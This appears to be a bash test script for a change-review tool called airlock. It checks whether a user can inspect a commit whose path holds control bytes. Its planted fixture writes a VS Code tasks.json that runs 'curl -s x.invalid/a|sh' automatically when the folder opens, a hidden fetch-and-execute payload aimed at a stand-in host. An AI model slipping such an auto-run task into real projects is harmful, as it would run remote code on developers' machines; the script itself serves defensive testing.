#!/bin/bash
# 10 (phase 1): a name the user cannot act on. Apply's refusal prints a
# control byte in a path as `?` (history/13). C1 adds a folder-open task
# under a directory whose name holds V=esc: ESC; V=nl: a newline; V=tab:
# a TAB; C2 deletes it. The user copies the path from the refusal into
# `airlock diff NAME --commit C PATH` (and tries the JSON review's path).
# Got through (noise) = no path the user is shown (text refusal, review
# notes, review --json) makes `airlock diff --commit` show the version,
# so the commit can only be accepted unseen or squashed.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/../history/common.sh"; . "$(dirname "$0")/common.sh"
MODE=${1:-direct}; V=${V:-esc}
NPKG=2 mkproj; write_sandbox "$MODE"; up_sandbox
cat > "$T/plant.sh" <<'P'
set -e
case "$V" in esc) d=$(printf 'web\033x');; nl) d=$(printf 'web\nx');; tab) d=$(printf 'web\tx');; esac
mkdir -p "$d/.vscode"; printf '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl -s x.invalid/a|sh","runOptions":{"runOn":"folderOpen"}}]}\n' > "$d/.vscode/tasks.json"
git add -A; git commit -qm C1; rm -rf "$d"; git add -A; echo "// x" >> src/extension.ts; git commit -qam C2
P
plant "$T/plant.sh" "V=$V"
sleep 0.5
airlock review "$N" --json > "$T/review.json" 2>/dev/null
python3 -c 'import json,sys; [print(repr(n)[:300]) for n in json.load(open(sys.argv[1])).get("notes") or [] if "commit" in n]' "$T/review.json"
airlock apply "$N" --branch t-np > "$T/apply.log" 2>&1; echo "apply rc=$?"; cut -c1-400 "$T/apply.log"
c=$(grep -o 'HISTORY:[0-9a-f]*' "$T/apply.log" | head -1 | cut -d: -f2)
p=$(grep -o "commit $c: [^:]*:" "$T/apply.log" | head -1 | sed "s/commit $c: //; s/:\$//")
ok=0
for q in "$p" "$(printf '%s' "$p" | sed 's/?/\\033/')" ; do airlock diff "$N" --commit "$c" "$q" > "$T/d" 2>&1 && grep -q x.invalid "$T/d" && { echo "  diff --commit works with the printed path [$q]"; ok=1; }; done
jp=$(python3 -c 'import json,sys,re
for n in json.load(open(sys.argv[1])).get("notes") or []:
    m=re.search(r"commit [0-9a-f]+: (.*?\.vscode/tasks\.json)", n, re.S)
    if m: print(m.group(1)); break' "$T/review.json")
airlock diff "$N" --commit "$c" "$jp" > "$T/d" 2>&1 && grep -q x.invalid "$T/d" && { echo "  diff --commit works with the JSON note's path"; ok=1; }
echo "  tried [$p] and JSON [$jp]: $(head -2 "$T/d" | tr '\n' ' ')"
# the real name (what a user could only type by knowing the bytes)
case "$V" in esc) rp=$(printf 'web\033x/.vscode/tasks.json');; nl) rp=$(printf 'web\nx/.vscode/tasks.json');; tab) rp=$(printf 'web\tx/.vscode/tasks.json');; esac
airlock diff "$N" --commit "$c" "$rp" > "$T/d2" 2>&1; echo "  with the real bytes: rc=$? $(grep -c x.invalid "$T/d2") match"
[ $ok = 0 ] && { echo "  the user is told to read commit $c's version and has no way to name it"; R=1; }
finish
